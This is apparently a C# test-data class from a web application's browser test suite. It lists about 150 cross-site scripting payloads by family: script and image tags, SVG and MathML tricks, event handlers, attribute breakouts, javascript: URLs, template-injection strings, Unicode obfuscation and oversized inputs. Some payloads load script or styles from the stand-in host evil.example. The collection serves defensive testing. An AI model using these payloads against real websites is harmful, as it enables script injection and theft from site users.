namespace Doorstep.Browser;

/// <summary>
/// What people type who want it to run in somebody else's browser. Each would open a dialog, set the global stained, or ask a foreign host, if it
/// ran. After the cheat sheets of OWASP and PortSwigger, written anew for this page.
/// </summary>
static class Payloads
{
    private static readonly string[] scripts =
    [
        "<script>alert(1)</script>",
        "<SCRIPT>stained=1</SCRIPT>",
        "<script src=//evil.example/x.js></script>",
        "<script src=data:text/javascript,stained=1></script>",
        "<script type=module>stained=1</script>",
        "<script\t>alert(1)</script\t>",
        "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "</script><script>alert(1)</script>",
        "<script>alert`1`</script>",
        "<script>/*</title>*/stained=1</script>",
    ];

    private static readonly string[] images =
    [
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=stained=1//",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img/src='x'/onerror='alert(1)'>",
        "<img src=\"x\"\nonerror=\"alert(1)\">",
        "<img src=x:x onerror\u000C=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<img srcset=x onerror=stained=1>",
        "<img src=//evil.example/pixel.gif>",
        "<img lowsrc=javascript:alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<picture><source srcset=x><img onerror=alert(1) src=x></picture>",
    ];

    private static readonly string[] drawings =
    [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script>alert&#40;1&#41;</script></svg>",
        "<svg><script href=data:,stained=1 /></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set onend=alert(1) attributeName=x dur=1ms>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x\" /></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><![CDATA[><image xlink:href=x onerror=alert(1) />]]></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    ];

    private static readonly string[] handlers =
    [
        "<body onload=alert(1)>",
        "<body onpageshow=stained=1>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video src=x onerror=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
        "<p tabindex=1 autofocus onfocusin=stained=1>x</p>",
        "<style onload=alert(1)></style>",
        "<link rel=stylesheet href=x onerror=alert(1)>",
        "<object data=x onerror=alert(1)>",
        "<iframe onload=alert(1)></iframe>",
        "<x onanimationstart=alert(1) style=animation:spin>",
        "<x contenteditable onblur=alert(1) autofocus>x",
        "<button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>",
        "<form onformdata=alert(1)><button>x</button></form>",
    ];

    private static readonly string[] attributes =
    [
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=\"alert(1)",
        "' autofocus onfocus='alert(1)",
        "x onfocus=alert(1) autofocus x=",
        "` onmouseover=alert(1) `",
        "\"/><svg/onload=alert(1)>",
        "\" style=\"animation-name:x\" onanimationstart=\"alert(1)",
        "\"></textarea><script>alert(1)</script>",
        "\"></select><img src=x onerror=alert(1)>",
        "\" type=image src=x onerror=\"alert(1)",
        "\" formaction=\"javascript:alert(1)",
        "\" srcdoc=\"<script>alert(1)</script>",
        "\\\" onerror=alert(1) \\\"",
    ];

    private static readonly string[] addresses =
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\u0001javascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript:/*--></title></style></textarea></script>*/alert(1)//",
        "javascript://%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//evil.example/x",
        "/\\evil.example/x",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;parent.stained=1&lt;/script&gt;\"></iframe>",
        "<embed src=javascript:alert(1)>",
        "<object data=javascript:alert(1)>",
        "<form action=javascript:alert(1)><input type=submit></form>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "[x](javascript:alert(1))",
    ];

    private static readonly string[] templates =
    [
        "{{constructor.constructor('alert(1)')()}}",
        "{{7*7}}${7*7}#{7*7}<%=7*7%>@(7*7)",
        "@{stained=1;}",
        "@Html.Raw(\"<script>alert(1)</script>\")",
        "{0}{1}{2}{99}",
        "{0",
        "}}}{{{",
        "${alert(1)}",
        "<%= alert(1) %>",
        "[[${alert(1)}]]",
        "#{alert(1)}",
        "%7B%7Balert(1)%7D%7D%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
    ];

    private static readonly string[] endings =
    [
        "--><script>alert(1)</script><!--",
        "<!--><script>alert(1)</script>-->",
        "]]><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</textarea><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<plaintext>",
        "<!--Blazor:{\"type\":\"server\",\"sequence\":0}-->",
        "\";stained=1;//",
        "';stained=1;//",
        "\\\";stained=1;//",
        "</script><script>stained=1//",
        "\u2028stained=1\u2029",
        "{\"__proto__\":{\"stained\":1}}",
    ];

    private static readonly string[] looks =
    [
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<style>@import '//evil.example/x.css';</style>",
        "<style>body{display:none}</style>",
        "<div style=\"background:url(//evil.example/x)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "</style><style>:root{--accent:red}</style>",
        "red;}*{display:none",
        "<link rel=stylesheet href=//evil.example/x.css>",
    ];

    private static readonly string[] letters =
    [
        "\u202E<script>alert(1)</script>\u202C",
        "\u2066<img src=x onerror=alert(1)>\u2069",
        "<scr\u200Bipt>alert(1)</scr\u200Bipt>",
        "\u200D\u200C\uFEFF<svg onload=alert(1)>",
        "＜script＞alert(1)＜/script＞",
        "ʺ＞＜img src=x onerror=alert(1)＞",
        "<ſcript>alert(1)</ſcript>",
        "<\u0000script>alert(1)</\u0000script>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "¼script¾alert(1)¼/script¾",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L<script>alert(1)</script>",
        "\uD83D\uDE00<img src=x onerror=alert(1)>\uD83D\uDE00",
    ];

    private static readonly string[] lengths =
    [
        string.Concat(Enumerable.Repeat("<img src=x onerror=alert(1)>", 143))[..4000],
        string.Concat(Enumerable.Repeat("<b>", 600)) + "<script>alert(1)</script>",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. scripts, .. images, .. drawings, .. handlers, .. attributes, .. addresses, .. templates, .. endings, .. looks, .. letters, .. lengths
    ];

    public static bool IsNightly { get; } = Environment.GetEnvironmentVariable("DOORSTEP_NIGHTLY") is not null;

    /// <summary>At night all of them; by day the first of each family and some beside.</summary>
    public static IReadOnlyList<string> Tried { get; } = IsNightly
        ? All
        : [.. new[] { scripts, images, drawings, handlers, attributes, addresses, templates, endings, looks, letters }.SelectMany(family =>
            (string[])[family[0], family[^1]]), lengths[0]];

    /// <summary>By day a page that is like another is not opened for each of them.</summary>
    public static IReadOnlyList<string> Some { get; } = [.. Tried.Where((_, place) => IsNightly || place % 4 == 0)];

    /// <summary>As much of it as a field takes.</summary>
    public static string Fit(string payload, int length) =>
        payload.Length <= length ? payload : payload[..(char.IsHighSurrogate(payload[length - 1]) ? length - 1 : length)];
}
